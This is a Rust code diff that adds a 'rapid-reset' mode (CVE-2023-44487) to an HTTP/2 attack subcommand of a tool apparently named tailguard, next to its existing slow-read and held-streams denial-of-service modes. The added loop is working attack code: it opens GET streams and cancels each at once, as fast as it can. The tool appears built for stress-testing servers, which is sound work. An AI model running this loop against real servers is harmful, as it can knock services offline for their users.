@@ -5,7 +5,9 @@
 //!   never reads their bodies, so neither its stream windows nor its connection window
 //!   opens past the default 65,535 bytes;
 //! - `held-streams`: each connection opens `--streams` POSTs whose HEADERS come without
-//!   END_STREAM and whose body never follows.
+//!   END_STREAM and whose body never follows;
+//! - `rapid-reset` (CVE-2023-44487): each connection opens GETs and cancels each at once
+//!   (RST_STREAM CANCEL), as fast as it can, `--streams` at most in flight.
 //!
 //! A connection the server closes is opened again until the end; a stream refused or
 //! answered is counted, not opened again (a flood of new streams is another attack). The
@@ -29,6 +31,8 @@ pub enum Kind {
     SlowRead,
     /// Requests whose bodies never come.
     HeldStreams,
+    /// Streams opened and cancelled at once, in a loop.
+    RapidReset,
 }
 
 /// Arguments of `tailguard h2-attack`.
@@ -140,12 +144,26 @@ async fn connection(
         .handshake::<_, Bytes>(tcp)
         .await?;
     let driver = tokio::spawn(conn);
+    if kind == Kind::RapidReset {
+        loop {
+            send = send.ready().await?;
+            let req = http::Request::get(format!("http://{target}{path}")).body(())?;
+            let (_response, mut stream) = send.send_request(req, true)?;
+            stream.send_reset(h2::Reason::CANCEL);
+            counts.streams.fetch_add(1, Ordering::Relaxed);
+            if driver.is_finished() {
+                return Ok(());
+            }
+            // Lets the driver write and read between streams.
+            tokio::task::yield_now().await;
+        }
+    }
     // What the attack holds: request bodies never sent, response bodies never read.
     let mut held = Vec::new();
     for _ in 0..streams {
         send = send.ready().await?;
         let (method, end_of_stream) = match kind {
-            Kind::SlowRead => (http::Method::GET, true),
+            Kind::SlowRead | Kind::RapidReset => (http::Method::GET, true),
             Kind::HeldStreams => (http::Method::POST, false),
         };
         let req = http::Request::builder()
